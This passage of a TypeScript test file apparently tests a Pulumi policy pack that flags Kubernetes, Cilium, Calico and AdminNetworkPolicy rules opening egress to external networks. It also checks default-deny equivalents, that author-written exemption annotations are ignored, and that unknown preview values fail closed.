                cnp({ endpointSelector: { matchLabels: { app: "web" } }, egress: [{ toFQDNs: [{ matchName: "api.example.com" }] }] }),
                cnp(
                    { endpointSelector: { matchLabels: { "k8s:istio": "egressgateway" } }, egress: [{ toFQDNs: [{ matchName: "api.example.com" }] }] },
                    "istio-egress",
                ),
            ],
            [
                "Cilium toPorts without a peer",
                cnp({ endpointSelector: {}, egress: [{ toPorts: [{ ports: [{ port: "443" }] }] }] }),
                cnp({ endpointSelector: {}, egress: [{ toEndpoints: [{}], toPorts: [{ ports: [{ port: "443" }] }] }] }),
            ],
            [
                "a CiliumClusterwideNetworkPolicy to world",
                cluster("cilium.io/v2", "CiliumClusterwideNetworkPolicy", "c", { endpointSelector: {}, egress: [{ toEntities: ["all"] }] }),
                cluster("cilium.io/v2", "CiliumClusterwideNetworkPolicy", "c", { endpointSelector: {}, egress: [{ toEntities: ["kube-apiserver"] }] }),
            ],
            [
                "Calico Allow to public nets",
                calico({ selector: "all()", types: ["Egress"], egress: [{ action: "Allow", destination: { nets: ["0.0.0.0/0"] } }] }),
                calico({ selector: "all()", types: ["Egress"], egress: [{ action: "Allow", destination: { nets: ["10.0.0.0/8"] } }] }),
            ],
            [
                "Calico Allow to notNets",
                calico({ selector: "all()", egress: [{ action: "Allow", destination: { notNets: ["10.0.0.0/8"] } }] }),
                calico({ selector: "all()", egress: [{ action: "Deny", destination: { notNets: ["10.0.0.0/8"] } }] }),
            ],
            [
                "Calico Allow without a destination",
                calico({ selector: "all()", egress: [{ action: "Allow", protocol: "TCP" }] }),
                calico({ selector: "all()", egress: [{ action: "Allow", destination: { selector: "app == 'db'" } }] }),
            ],
            [
                "a Calico GlobalNetworkPolicy to public nets",
                cluster("projectcalico.org/v3", "GlobalNetworkPolicy", "g", {
                    selector: "all()",
                    egress: [{ action: "Allow", destination: { nets: ["8.8.8.8/32"] } }],
                }),
                cluster("projectcalico.org/v3", "GlobalNetworkPolicy", "g", { selector: "all()", egress: [{ action: "Pass" }] }),
            ],
            [
                "an AdminNetworkPolicy Allow to external networks",
                cluster("policy.networking.k8s.io/v1alpha1", "AdminNetworkPolicy", "a", {
                    priority: 10,
                    subject: { namespaces: {} },
                    egress: [{ action: "Allow", to: [{ networks: ["0.0.0.0/0"] }] }],
                }),
                cluster("policy.networking.k8s.io/v1alpha1", "AdminNetworkPolicy", "a", {
                    priority: 10,
                    subject: { namespaces: {} },
                    egress: [{ action: "Deny", to: [{ networks: ["0.0.0.0/0"] }] }],
                }),
            ],
            [
                "an AdminNetworkPolicy Pass to external networks",
                cluster("policy.networking.k8s.io/v1alpha1", "AdminNetworkPolicy", "a", {
                    priority: 10,
                    subject: { namespaces: {} },
                    egress: [{ action: "Pass", to: [{ networks: ["8.8.8.0/24"] }] }],
                }),
                cluster("policy.networking.k8s.io/v1alpha1", "AdminNetworkPolicy", "a", {
                    priority: 10,
                    subject: { namespaces: {} },
                    egress: [{ action: "Pass", to: [{ namespaces: {} }] }],
                }),
            ],
            [
                "a BaselineAdminNetworkPolicy Allow to external networks",
                cluster("policy.networking.k8s.io/v1alpha1", "BaselineAdminNetworkPolicy", "default", {
                    subject: { namespaces: {} },
                    egress: [{ action: "Allow", to: [{ networks: ["0.0.0.0/0"] }] }],
                }),
                cluster("policy.networking.k8s.io/v1alpha1", "BaselineAdminNetworkPolicy", "default", {
                    subject: { namespaces: {} },
                    egress: [{ action: "Allow", to: [{ networks: ["10.0.0.0/8"] }] }],
                }),
            ],
        ];
        for (const [trick, bad, good] of cases) {
            it(`flags ${trick}; the same without the trick passes`, async function () {
                assert.strictEqual((await holes(bad)).length, 1, trick);
                assert.deepStrictEqual(await holes(good), [], trick);
            });
        }
        it("the default-deny rule accepts the CNIs' default-deny equivalents, namespaced or cluster-wide", async function () {
            const web = workload("Deployment", "web", "apps");
            const DD = "namespace-default-deny-egress";
            const dd = async (objs: K8sObject[]) => brief(await check([web, ...objs])).filter((v) => v.startsWith(DD));
            assert.deepStrictEqual(await dd([]), [`${DD} Deployment/web`]);
            assert.deepStrictEqual(await dd([cnp({ endpointSelector: {}, egress: [{}] })]), []);
            assert.deepStrictEqual(await dd([calico({ selector: "all()", types: ["Egress"] })]), []);
            assert.deepStrictEqual(await dd([cluster("projectcalico.org/v3", "GlobalNetworkPolicy", "deny", { selector: "all()", types: ["Egress"] })]), []);
            assert.deepStrictEqual(
                await dd([
                    cluster("policy.networking.k8s.io/v1alpha1", "BaselineAdminNetworkPolicy", "default", {
                        subject: { namespaces: {} },
                        egress: [{ action: "Deny", to: [{ networks: ["0.0.0.0/0", "::/0"] }] }],
                    }),
                ]),
                [],
            );
            // ... but not ones that open the outside, or select only some pods
            assert.deepStrictEqual(await dd([cnp({ endpointSelector: {}, egress: [{ toEntities: ["world"] }] })]), [`${DD} Deployment/web`]);
            assert.deepStrictEqual(await dd([calico({ selector: "app == 'other'", types: ["Egress"] })]), [`${DD} Deployment/web`]);
        });
        it("accepts a workload whose pods are all selected by isolating policies that open nothing external", async function () {
            const DD = "namespace-default-deny-egress";
            const web = workload("Deployment", "web", "apps");
            const own = np("web-deny", "apps", { podSelector: { matchLabels: { app: "web" } }, policyTypes: ["Egress"] });
            const leaky = np("web-leak", "apps", { podSelector: { matchLabels: { app: "web" } }, policyTypes: ["Egress"], egress: [{}] });
            assert.deepStrictEqual(
                brief(await check([web, own])).filter((v) => v.startsWith(DD)),
                [],
            );
            assert.deepStrictEqual(
                brief(await check([web, own, leaky])).filter((v) => v.startsWith(DD)),
                [`${DD} Deployment/web`],
            );
            assert.deepStrictEqual(
                brief(await check([web, workload("Deployment", "api", "apps"), own])).filter((v) => v.startsWith(DD)),
                [`${DD} Deployment/api`],
            );
        });
    });

    describe("exemptions", function () {
        const bad = pod(
            { hostNetwork: true, containers: [{ name: "a", image: "a" }] },
            { annotations: { "istio-egress-guard/exempt": "true", "policy.pulumi.com/exempt": "true" } },
        );
        it("an annotation the manifest's author writes exempts nothing", async function () {
            assert.deepStrictEqual(await inApps([bad]), ["no-proxy-escape-privileges Pod/p"]);
        });
        it("only the policy config exempts a single object (Kind/namespace/name)", async function () {
            assert.deepStrictEqual(await inApps([bad], { "no-proxy-escape-privileges": { exemptObjects: ["Pod/apps/p"] } }), []);
            assert.deepStrictEqual(await inApps([bad], { "no-proxy-escape-privileges": { exemptObjects: ["Pod/other/p"] } }), [
                "no-proxy-escape-privileges Pod/p",
            ]);
        });
    });

    describe("unknown values in preview fail closed", function () {
        it("an istio-proxy whose image is unknown is not silently exempt: the policy cannot run (advisory), it does not pass", async function () {
            const r: PolicyResource = {
                type: "kubernetes:core/v1:Pod",
                name: "p",
                urn: "urn:pulumi:s::p::kubernetes:core/v1:Pod::p",
                props: { metadata: { name: "p", namespace: "apps" }, spec: { containers: [{ ...SIDECAR, image: UNKNOWN }] } },
            };
            const vs = (await runPolicies([r, ...fromManifests([defaultDeny("apps")])])).filter((v) => v.policy === "no-proxy-escape-privileges");
            assert.strictEqual(vs.length, 1);
            assert.strictEqual(vs[0].enforcementLevel, "advisory");
            assert.match(vs[0].message, /can't run policy 'no-proxy-escape-privileges'.*during preview/);
        });
    });
});
